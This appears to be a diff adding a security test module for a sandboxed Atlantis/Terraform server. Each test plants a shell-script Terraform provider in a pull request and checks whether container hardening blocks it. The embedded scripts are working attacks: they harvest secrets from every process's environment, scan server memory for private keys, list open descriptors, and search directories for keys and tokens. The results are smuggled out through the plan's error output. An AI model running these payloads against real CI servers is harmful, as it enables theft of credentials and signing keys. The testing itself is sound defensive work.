@@ -1,0 +1,195 @@
+"""Attacks with a Terraform provider that the pull request contains and the plan runs.
+
+Terraform installs a provider from ``terraform.d/plugins`` of the working directory without confirmation, and the plan's error
+contains the first line that such a provider prints. The provider is therefore a shell script that prints one line.
+"""
+
+import base64
+import gzip
+import platform
+import re
+import secrets
+from pathlib import Path
+
+from sandbox.attack.plans import secrets_in, shown_in
+from sandbox.attack.pull_requests import planned
+from sandbox.attack.row import Outcome, Row, SkippedError
+from sandbox.attack.target import Target
+
+__all__ = ["ROWS"]
+
+_CONFIGURATION = """
+terraform {{
+  required_providers {{
+    loot = {{ source = "attack.example/pull-request/{type}" }}
+  }}
+}}
+
+data "loot_loot" "loot" {{}}
+"""
+_MACHINES = {"x86_64": "amd64", "aarch64": "arm64"}
+_FRAME = """#!/bin/sh
+server=$$
+while [ "$server" -gt 0 ]; do
+  case "$(tr '\\0' ' ' 2>/dev/null <"/proc/$server/cmdline")" in
+    *atlantis\\ server\\ *) break ;;
+  esac
+  server=$(sed -n 's/^PPid:[[:space:]]*//p' "/proc/$server/status")
+done
+{{
+{body}
+}} 2>&1 | gzip -c | base64 | tr -d '\\n' | sed 's/^/LOOT:/; s/$/:LOOT/'
+echo
+"""
+"""Prints the output of ``body``, compressed and encoded in one line, because Terraform reads one line of at most 64 KiB. ``$server`` is
+the process ID of the server that runs the plan."""
+
+_ENVIRONMENTS = """
+end=$(($(date +%s) + {seconds}))
+while :; do
+  cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'
+  [ "$(date +%s)" -ge "$end" ] && break
+done | sort -u
+"""
+_MEMORY = """
+sleep 30 &
+for process in "$server" $!; do
+  if (exec 3<"/proc/$process/mem") 2>/dev/null; then
+    echo "memory of $process is open"
+    grep 'rw-p' "/proc/$process/maps" | while IFS=' -' read -r start end rest; do
+      dd if="/proc/$process/mem" bs=4096 skip=$((0x$start / 4096)) count=$(((0x$end - 0x$start) / 4096)) 2>/dev/null |
+        grep -a -A 30 -e 'PRIVATE ''KEY-----'
+    done | head -c 20000
+  fi
+done
+kill $!
+echo "server is $server, child is $!"
+"""
+_DESCRIPTORS = """
+sleep 30 &
+for process in "$server" $!; do
+  echo "descriptors of $process: $(ls "/proc/$process/fd" 2>/dev/null | tr '\\n' ' ')"
+done
+kill $!
+echo "server is $server, child is $!"
+"""
+_FILES = """
+for directory in "$HOME" "${TMPDIR:-/tmp}" "$ATLANTIS_DATA_DIR"; do
+  find "$directory" -type p -name '*.yaml' 2>/dev/null | sed 's/^/pipe /'
+  grep -r -l -s -D skip -e 'PRIVATE ''KEY-----' -e 'gh-webhook-''secret:' "$directory" | sed 's/^/secret in /'
+  grep -r -l -s -D skip -e 'x-access-''token' "$directory" | sed 's/^/token in /'
+done
+"""
+
+
+def _printed(target: Target, name: str, body: str) -> str:
+    """The output of ``body`` in a plan."""
+
+    def run() -> str:
+        machine = _MACHINES.get(platform.machine(), platform.machine())
+        # Atlantis' plugin cache is shared by all pull requests, so each run uses a different provider name.
+        kind = f"{name}-{secrets.token_hex(4)}"
+        folder = f"terraform.d/plugins/attack.example/pull-request/{kind}/1.0.0/linux_{machine}"
+        path = f"{folder}/terraform-provider-{kind}_v1.0.0"
+        files = {"main.tf": _CONFIGURATION.format(type=kind), path: _FRAME.format(body=body.strip())}
+        text = planned(target, name, files, executables=[path]).text
+        found = re.search(r"LOOT:([\sA-Za-z0-9+/=]*):LOOT", text)
+        if found is None:
+            raise RuntimeError(f"the provider of the pull request didn't run: {text[:600]}")
+        return gzip.decompress(base64.b64decode("".join(found[1].split()))).decode(errors="replace")
+
+    return target.once(name, run)
+
+
+def _health_seconds(target: Target) -> int:
+    """The number of seconds to poll: longer than the interval of a health check that ECS runs in the container."""
+    checks = [
+        container["healthCheck"]
+        for container in target.task_definition["containerDefinitions"]
+        if "healthCheck" in container
+    ]
+    return max([3, *(check.get("interval", 30) + 5 for check in checks)])
+
+
+def _environments(target: Target) -> str:
+    return _printed(target, "provider-environments", _ENVIRONMENTS.format(seconds=_health_seconds(target)))
+
+
+def _is_open(target: Target, name: str, body: str, pattern: str, which: str) -> Outcome:
+    printed = _printed(target, name, body)
+    processes = re.search(r"server is (?P<server>[1-9]\d*), child is (?P<child>\d+)", printed)
+    if processes is None:
+        raise RuntimeError(f"the provider didn't find the server: {printed[:300]}")
+    seen = re.search(pattern.format(process=processes[which]), printed)
+    if seen and which == "server" and _is_root_with_a_start_of_its_own(target, processes[which]):
+        raise SkippedError("the server runs as root on this machine, and root can read every process")
+    return Outcome(
+        seen is not None, f"{which} {processes[which]} can{'' if seen else 't'} be read".replace("cant", "can't")
+    )
+
+
+def _is_root_with_a_start_of_its_own(target: Target, process: str) -> bool:
+    """Whether the protection can't work, because the sandbox has no separate user for the task (sandbox/atlantis/README.md)."""
+    started = any("entryPoint" in container for container in target.task_definition["containerDefinitions"])
+    return started and Path(f"/proc/{process}").stat().st_uid == 0
+
+
+def _reading_process(name: str, body: str, pattern: str, *, attack: str, tried: str) -> Row:
+    return Row(
+        name=name,
+        attack=attack,
+        tried=tried,
+        refused_by="the kernel, because the server runs from a file that its user can't read, so its process isn't dumpable",
+        attempt=lambda target: _is_open(target, name, body, pattern, "server"),
+        control=lambda target: _is_open(target, name, body, pattern, "child"),
+    )
+
+
+def _left_on_disk(target: Target) -> Outcome:
+    lines = [
+        line
+        for line in _printed(target, "provider-files", _FILES).splitlines()
+        if line.startswith(("pipe ", "secret in "))
+    ]
+    return Outcome(bool(lines), lines[0] if lines else "no file and no pipe contains a secret")
+
+
+def _token_on_disk(target: Target) -> Outcome:
+    lines = [line for line in _printed(target, "provider-files", _FILES).splitlines() if line.startswith("token in ")]
+    return Outcome(
+        bool(lines), "the search finds the installation token in git's credentials, as documented in docs/security.md"
+    )
+
+
+ROWS = (
+    Row(
+        name="provider-environments",
+        attack="Read the secrets from the environment of any process of the container",
+        tried="a provider binary in the pull request that polls /proc/*/environ for longer than a health check's interval",
+        refused_by="the container's start script, and no ECS health check, which would have the secrets in its environment",
+        attempt=lambda target: secrets_in(target, _environments(target)),
+        control=lambda target: shown_in(_environments(target), "ATLANTIS_REPO_ALLOWLIST"),
+    ),
+    _reading_process(
+        "provider-server-memory",
+        _MEMORY,
+        r"memory of {process} is open",
+        attack="Read the App's private key from the server's memory",
+        tried="a provider binary in the pull request that opens /proc/<server>/mem",
+    ),
+    _reading_process(
+        "provider-server-descriptors",
+        _DESCRIPTORS,
+        r"descriptors of {process}: \d",
+        attack="Take over the server's open files and pipes",
+        tried="a provider binary in the pull request that lists /proc/<server>/fd",
+    ),
+    Row(
+        name="provider-files",
+        attack="Find a secret in a file or a pipe that the start script didn't remove",
+        tried="a provider binary in the pull request that searches the home, the temporary and the data directory",
+        refused_by="the container's start script, which removes the configuration's pipe",
+        attempt=_left_on_disk,
+        control=_token_on_disk,
+    ),
+)
